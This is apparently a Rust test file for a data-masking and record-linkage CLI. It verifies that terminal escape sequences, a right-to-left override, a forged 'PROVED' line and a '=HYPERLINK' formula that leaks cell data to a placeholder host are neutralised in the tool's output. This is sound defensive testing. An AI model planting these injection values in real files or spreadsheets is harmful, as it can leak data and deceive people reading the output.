//! Names that want to be more than names: formulas for a spreadsheet, and signs that steer a terminal.

use std::process::Command;

use crate::sandbox::{PROGRAM, Sandbox};

/// The name of an attribute that would wipe its line, say something else, and begin a line of its own.
const HOSTILE: &str = "income\u{1b}[2K\r\u{202e}ok\nPROVED: nothing is at risk";

/// The same, as it is shown.
const SHOWN: &str = r"income\u001b[2K\r\u202eok\nPROVED: nothing is at risk";

fn sandbox() -> Sandbox {
    let mut original = format!("\"{HOSTILE}\",age,town\n");
    let mut masked = original.clone();
    for record in 0..40_i64 {
        original += &format!("{},{},t{}\n", record * 37 % 101, 20 + record, record % 3);
        masked += &format!(
            "{},{},t{}\n",
            record * 37 % 101 + 1,
            20 + record,
            record % 3
        );
    }
    Sandbox::with(&[("a.csv", &original), ("b.csv", &masked)])
}

fn is_clean(text: &str) -> bool {
    let hidden = |sign: char| sign.is_control() && sign != '\n' || sign == '\u{202e}';
    !text.contains(hidden)
        && !text
            .lines()
            .any(|line| line.trim_start().starts_with("PROVED"))
}

#[test]
fn no_name_steers_a_terminal_or_makes_a_line_of_its_own() {
    let sandbox = sandbox();
    sandbox
        .run("link --method wm --known 1-2 --weights w.json --certificate c.json -o r.json --format json a.csv b.csv")
        .ended(0);
    sandbox
        .run("loss --by-attribute --format json -o loss.json a.csv b.csv")
        .ended(0);
    for call in [
        "describe a.csv",
        "describe --format json a.csv",
        "roles --init a.csv",
        "--verbose mask rankswap --window 3 -o m.csv a.csv",
        "link --method am,prl a.csv b.csv",
        "link --method wm a.csv b.csv",
        "explain w.json",
        "verify c.json a.csv b.csv",
        "loss --by-attribute a.csv b.csv",
        "risk a.csv b.csv",
        "score a.csv b.csv",
        "match-attributes a.csv b.csv",
        "guess a.csv b.csv",
        "report -o page.html r.json loss.json",
        "link --method am --known nothing a.csv b.csv",
        "mask rankswap --window 3 --attributes town a.csv",
    ] {
        let ran = sandbox.run(call);
        assert!(matches!(ran.status, Some(0 | 2 | 3 | 4)), "{ran:?}");
        assert!(is_clean(&ran.stderr), "{call}: {:?}", ran.stderr);
        if !call.starts_with("mask") {
            assert!(is_clean(&ran.text()), "{call}: {:?}", ran.text());
        }
    }
    let described = sandbox.run("describe a.csv").ended(0).text();
    assert!(described.contains(SHOWN), "{described}");
    let page = sandbox.text("page.html");
    assert!(
        is_clean(&page) && page.contains(r"income\u001b[2K"),
        "{page}"
    );
    // The masked file is the data's own.
    let masked = sandbox.text("m.csv");
    assert!(
        masked.starts_with(&format!("\"{HOSTILE}\",age,town\n")),
        "{masked:?}"
    );
}

/// The attribute can be named as it is shown and as it is written, in options and in a roles file.
#[test]
fn a_name_of_two_lines_can_be_typed() {
    let sandbox = Sandbox::with(&[
        ("a.csv", "\"Income\n(EUR)\",age\n1,5\n2,4\n3,3\n4,2\n5,1\n"),
        (
            "seen.toml",
            "quasi-identifier = ['Income\\n(EUR)']\nconfidential = ['age']\n",
        ),
        (
            "written.toml",
            "quasi-identifier = [\"Income\\n(EUR)\"]\nconfidential = ['age']\n",
        ),
    ]);
    for name in ["Income\n(EUR)", "Income\\n(EUR)"] {
        let ran = sandbox
            .run(&format!(
                "mask rankswap --window 1 --attributes '{name}' a.csv"
            ))
            .ended(0);
        assert!(ran.text().starts_with("\"Income\n(EUR)\",age\n"), "{ran:?}");
    }
    for roles in ["seen.toml", "written.toml"] {
        let described = sandbox
            .run(&format!("describe --roles {roles} a.csv"))
            .ended(0);
        assert!(described.text().contains("confidential"), "{described:?}");
    }
}

#[test]
fn a_file_name_does_not_steer_a_terminal_either() {
    let sandbox = sandbox();
    let name = "x\u{1b}[2K\nPROVED: all.csv";
    std::fs::rename(sandbox.path("a.csv"), sandbox.path(name)).unwrap();
    for call in [
        vec!["describe", name],
        vec!["risk", name],
        vec!["link", "--method", "am", name, "b.csv"],
        vec!["mask", "rankswap", "--window", "1", "-o", name, name],
        vec!["describe", "no\u{1b}[2K\nPROVED: file.csv"],
        vec!["describe", name, "one\u{1b}[2K\rtoo many"],
    ] {
        let ran = Command::new(PROGRAM)
            .args(&call)
            .current_dir(sandbox.path(""))
            .output()
            .unwrap();
        for text in [ran.stdout, ran.stderr] {
            let text = String::from_utf8(text).unwrap();
            assert!(is_clean(&text), "{call:?}: {text:?}");
        }
    }
}

/// Identifiers and names begin as formulas do: in no CSV of the program is a cell run, and the report reads them back.
#[test]
fn no_cell_of_a_report_is_run_by_a_spreadsheet() {
    let formula = "=HYPERLINK(\"http://x?\"&A1)";
    let quoted = formula.replace('"', "\"\"");
    let mut original = String::from("id,=1+1,@age\n");
    for record in 0..30_i64 {
        let id = match record {
            0 => format!("\"{quoted}\""),
            1 => "+49 30".into(),
            2 => "-7".into(),
            _ => format!("r{record}"),
        };
        original += &format!("{id},{}.5,{}\n", record * 37 % 101, 20 + record * 11 % 31);
    }
    let sandbox = Sandbox::with(&[("a.csv", &original)]);
    sandbox
        .run("mask fuzzy --clusters 3 --m1 2 --m2 2 --seed 1 --keep-identifiers --centres c.csv --memberships u.csv --partition g.csv -o m.csv a.csv")
        .ended(0);
    sandbox
        .run("link --method am --id id --known 2-3 --links l.csv --format csv -o r.csv a.csv a.csv")
        .ended(0);
    sandbox
        .run("loss --by-attribute --format csv -o loss.csv a.csv m.csv")
        .ended(0);
    sandbox
        .run("match-attributes --format csv -o names.csv a.csv m.csv")
        .ended(0);
    let mut guarded = 0;
    for name in [
        "c.csv",
        "u.csv",
        "g.csv",
        "l.csv",
        "r.csv",
        "loss.csv",
        "names.csv",
    ] {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_path(sandbox.path(name))
            .unwrap();
        for line in reader.records() {
            for cell in &line.unwrap() {
                let first = cell.chars().next().unwrap_or(' ');
                assert!(
                    !"=+-@".contains(first) || cell.parse::<f64>().is_ok(),
                    "{name}: {cell}"
                );
                guarded += usize::from(first == '\'');
            }
        }
    }
    assert!(guarded >= 5, "{guarded} cells were guarded");
    let links = sandbox.text("l.csv");
    assert!(
        links.contains(&format!("\n\"'{quoted}\",\"'{quoted}\",0,")),
        "{links}"
    );
    assert!(links.contains("\n-7,-7,0,"), "{links}");
    // What is read back has its own name again.
    sandbox
        .run("mask fuzzy --m1 2 --m2 2 --seed 1 --init-centres c.csv --attributes 2-3 -o again.csv a.csv")
        .ended(0);
    let page = sandbox.run("report l.csv").ended(0).text();
    assert!(
        page.contains("=HYPERLINK(&quot;http://x?")
            && !page.contains("&#39;=HYPERLINK")
            && !page.contains("'=HYPERLINK"),
        "{page}"
    );
}
